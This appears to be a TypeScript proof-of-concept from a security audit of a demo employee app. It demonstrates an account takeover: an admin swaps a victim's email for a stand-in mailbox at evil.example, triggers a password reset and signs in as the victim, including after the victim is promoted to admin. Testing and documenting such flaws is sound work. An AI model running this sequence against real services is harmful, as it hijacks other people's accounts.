import { z } from 'zod'
import { ask, read, textOf } from '../lib/ask.ts'
import type { Attempt, Finding } from '../lib/attack.ts'
import { letterIfAny, lettersTo, tokenIn } from '../lib/letters.ts'
import {
  demoSession,
  enteredAs,
  forgotPassword,
  listPeople,
  logIn,
  type Person,
  password,
  resetPassword,
} from '../lib/people.ts'
import { type Server, withServer } from '../lib/target.ts'

const Card = z.object({ first_name: z.string(), last_name: z.string(), position: z.string().nullish() })
const adminsOwn = 'admin-own-box@evil.example'

/** An admin changes a person's address to a mailbox of their own and asks for a new password there. */
async function become(server: Server, admin: string, victim: Person) {
  const path = `/api/employees/${victim.id}`
  const card = read(Card, await ask(server.address, path, { token: admin }))
  const body = { first_name: card.first_name, last_name: card.last_name, position: card.position, email: adminsOwn }
  const changed = await ask(server.address, path, { method: 'PUT', token: admin, body })
  await forgotPassword(server, adminsOwn)
  const link = await letterIfAny(server, adminsOwn, ({ kind }) => kind === 'password-reset')
  if (link) await resetPassword(server, tokenIn(link))
  const entered = await logIn(server, { email: adminsOwn, password })
  const me = await enteredAs(server, entered)
  const letters = (await lettersTo(server, victim.email)).filter(({ kind }) => kind.startsWith('email'))
  const said = letters.map(({ subject }) => `«${subject}»`).join(', ')
  return {
    isOpen: me?.id === victim.id,
    seen: `new address ${textOf(changed)}; reset link at the admin’s: ${link ? 'yes' : 'none'}; sign-in ${entered.status}${me?.id === victim.id ? ' as the victim' : ''}; the old mailbox is told ${said || 'nothing'}`,
  }
}

async function anyEmployee(server: Server, owner: string): Promise<Person> {
  const victim = (await listPeople(server, owner)).find(({ role }) => role === 'employee')
  if (!victim) throw new Error('the demo company has no employee')
  return victim
}

const anEmployee: Attempt = {
  done: 'an admin writes an address of their own into an employee’s card and asks for a new password',
  make: (target) =>
    withServer(target, { DEMO: 'on' }, async (server) => {
      const victim = await anyEmployee(server, await demoSession(server, 'owner'))
      return become(server, await demoSession(server, 'admin'), victim)
    }),
}

const anotherAdmin: Attempt = {
  done: 'the same with another admin',
  make: (target) =>
    withServer(target, { DEMO: 'on' }, async (server) => {
      const owner = await demoSession(server, 'owner')
      const victim = await anyEmployee(server, owner)
      const raised = await ask(server.address, `/api/employees/${victim.id}/role`, {
        method: 'PUT',
        token: owner,
        body: { role: 'admin' },
      })
      if (raised.status !== 200) throw new Error(`the owner makes no admin: ${raised.status} ${raised.text}`)
      return become(server, await demoSession(server, 'admin'), victim)
    }),
}

export const anotherMailbox: Finding = {
  id: 'M8',
  what: 'An admin becomes any employee, or another admin, by an address of their own',
  attempts: [anEmployee, anotherAdmin],
}
